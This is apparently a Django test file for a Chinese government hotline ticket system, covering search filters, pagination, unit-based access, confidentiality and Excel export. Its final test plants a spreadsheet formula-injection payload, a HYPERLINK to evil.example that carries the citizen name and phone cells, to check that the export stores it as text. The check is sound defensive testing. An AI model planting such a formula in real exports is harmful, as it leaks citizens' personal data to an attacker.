"""工单查询 and its Excel export."""

from __future__ import annotations

import io

from django.test import Client
from openpyxl import load_workbook

from minsheng.office import search as search_view
from minsheng.tickets import actions
from tests.conftest import People
from tests.factories import dispatched, in_progress, new_ticket
from tests.tickets.test_views_queues import pinned
from tests.tickets.test_views_ticket import login


def rows_of(response: object) -> list[list[object]]:
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")  # type: ignore[index]
    workbook = load_workbook(io.BytesIO(response.content))  # type: ignore[attr-defined]
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def test_search_filters_by_words_status_and_phone(people: People, client: Client) -> None:
    heat = new_ticket(people, title="供暖不热", description="小区暖气不热")
    light = dispatched(people, title="路灯不亮", citizen_phone="13700137000")
    login(client, people.operator)
    html = client.get("/tickets/?words=暖气").content.decode()
    assert heat.number in html and light.number not in html
    html = client.get("/tickets/?status=dispatched").content.decode()
    assert light.number in html and heat.number not in html
    html = client.get("/tickets/?phone=137-0013-7000").content.decode()
    assert light.number in html and heat.number not in html
    html = client.get("/tickets/?unit=sunkou").content.decode()
    assert light.number in html and heat.number not in html
    html = client.get(f"/tickets/?number={heat.number}").content.decode()
    assert heat.number in html and light.number not in html


def test_bad_filters_get_chinese_messages_not_500(people: People, client: Client) -> None:
    login(client, people.operator)
    for query, message in [
        ("created_from=yesterday", "日期格式不正确"),
        ("status=exploded", "状态无效"),
        ("division=abc", "区划代码应为"),
        ("phone=123", "联系电话格式不正确"),
        ("created_from=2025-02-01&created_to=2025-01-01", "结束日期不能早于开始日期"),
        ("category=notanumber", "分类无效"),
        ("page=banana", ""),
    ]:
        response = client.get(f"/tickets/?{query}")
        assert response.status_code in (200, 400), query
        assert message in response.content.decode(), query
        assert client.get(f"/tickets/export.xlsx?{query}").status_code in (200, 400), query


def test_a_handler_searches_only_their_units_tickets(people: People, client: Client) -> None:
    ours = dispatched(people)
    theirs = actions.ticket_dispatch(
        ticket=new_ticket(people), actor=people.dispatcher, lead_unit="houmiao"
    )
    login(client, people.alice)
    html = client.get("/tickets/").content.decode()
    assert ours.number in html and theirs.number not in html


def test_the_search_is_paginated(people: People, client: Client, monkeypatch: object) -> None:
    monkeypatch.setattr(search_view, "PAGE_SIZE", 2)  # type: ignore[attr-defined]
    tickets = [new_ticket(people, title=f"第{i}件") for i in range(5)]
    login(client, people.operator)
    html = client.get("/tickets/?words=件").content.decode()
    assert "共 5 件" in html and "第 1 / 3 页" in html and 'rel="next"' in html
    assert tickets[-1].number in html and tickets[0].number not in html
    html = client.get("/tickets/?words=件&page=3").content.decode()
    assert tickets[0].number in html


def test_a_big_result_is_counted_only_up_to_the_cap(
    people: People, client: Client, monkeypatch: object
) -> None:
    monkeypatch.setattr(search_view, "PAGE_SIZE", 2)  # type: ignore[attr-defined]
    monkeypatch.setattr(search_view, "COUNT_CAP", 3)  # type: ignore[attr-defined]
    tickets = [new_ticket(people, title=f"第{i}件") for i in range(5)]
    login(client, people.operator)
    html = client.get("/tickets/?words=件").content.decode()
    assert "超过 3 件" in html and "共 5 件" not in html
    assert "第 1 页" in html and " / " not in html.split('aria-label="分页"')[1]
    assert 'rel="next"' in html and 'rel="prev"' not in html
    assert "导出最多 10000 条。" in html
    html = client.get("/tickets/?words=件&page=2").content.decode()
    assert "超过 3 件" in html and "第 2 页" in html
    assert 'rel="next"' in html and 'rel="prev"' in html
    # The last page knows the total without counting: everything before it plus its rows.
    html = client.get("/tickets/?words=件&page=3").content.decode()
    assert "共 5 件" in html and "第 3 / 3 页" in html and 'rel="next"' not in html
    assert tickets[0].number in html
    # Past the end of a result too big to count: an empty page that leads back.
    html = client.get("/tickets/?words=件&page=9").content.decode()
    assert "没有符合条件的工单。" in html and 'rel="prev"' in html
    monkeypatch.setattr(search_view, "COUNT_CAP", 10)  # type: ignore[attr-defined]
    html = client.get("/tickets/?words=件&page=9").content.decode()
    assert "共 5 件" in html and "第 3 / 3 页" in html and tickets[0].number in html


def test_the_english_page_says_more_than(
    people: People, client: Client, monkeypatch: object
) -> None:
    monkeypatch.setattr(search_view, "PAGE_SIZE", 1)  # type: ignore[attr-defined]
    monkeypatch.setattr(search_view, "COUNT_CAP", 1)  # type: ignore[attr-defined]
    for _ in range(3):
        new_ticket(people)
    login(client, people.operator)
    client.cookies["django_language"] = "en"
    html = client.get("/tickets/").content.decode()
    assert "超过" not in html and "More than 1" in html and "Page 1" in html


def test_the_export_has_the_filtered_rows_and_the_phone_for_the_hotline(
    people: People, client: Client
) -> None:
    ticket = dispatched(people, title="路灯不亮")
    new_ticket(people, title="别的事", description="噪音扰民")
    login(client, people.operator)
    rows = rows_of(client.get("/tickets/export.xlsx?words=路灯"))
    assert rows[0][:5] == ["工单号", "受理时间", "渠道", "诉求人", "联系电话"]
    assert len(rows) == 2
    assert rows[1][0] == ticket.number and rows[1][4] == "13800138000"
    assert "孙口镇人民政府" in rows[1] and "待签收" in rows[1]


def test_the_export_for_a_unit_has_no_citizen_and_hides_the_confidential(
    people: People, client: Client
) -> None:
    in_progress(people, confidential=True, citizen_name="赵六")
    login(client, people.alice)
    html = client.get("/tickets/").content.decode()
    assert "赵六" not in html and "（保密）" in html
    rows = rows_of(client.get("/tickets/export.xlsx"))
    assert "联系电话" not in rows[0] and "诉求人" not in rows[0]
    flat = " ".join(str(c) for row in rows for c in row)
    assert "赵六" not in flat and "13800138000" not in flat
    assert len(rows) == 2


def test_the_export_is_capped(people: People, client: Client, monkeypatch: object) -> None:
    monkeypatch.setattr(search_view, "EXPORT_LIMIT", 2)  # type: ignore[attr-defined]
    for _ in range(3):
        new_ticket(people)
    login(client, people.operator)
    rows = rows_of(client.get("/tickets/export.xlsx"))
    assert len(rows) == 1 + 2 + 1
    assert "仅导出前 2 条，共 3 条" in str(rows[-1][0])


def test_a_full_page_costs_no_more_queries_than_a_short_one(
    people: People, client: Client, monkeypatch: object
) -> None:
    monkeypatch.setattr(search_view, "PAGE_SIZE", 2)  # type: ignore[attr-defined]
    login(client, people.operator)
    # The same as a one-page result (test_views_queues): the count comes with the ids.
    assert pinned(client, "/tickets/", lambda: new_ticket(people), n=3) == 7


def test_a_formula_typed_as_a_title_is_exported_as_text(people: People, client: Client) -> None:
    planted = '=HYPERLINK("http://evil.example/?"&D2&E2,"详情")'
    dispatched(people, title=planted)
    login(client, people.operator)
    response = client.get("/tickets/export.xlsx")
    book = load_workbook(io.BytesIO(response.content))  # type: ignore[attr-defined]
    kinds = {c.value: c.data_type for row in book.active.iter_rows() for c in row}
    assert kinds[planted] == "s"
    assert "f" not in kinds.values()
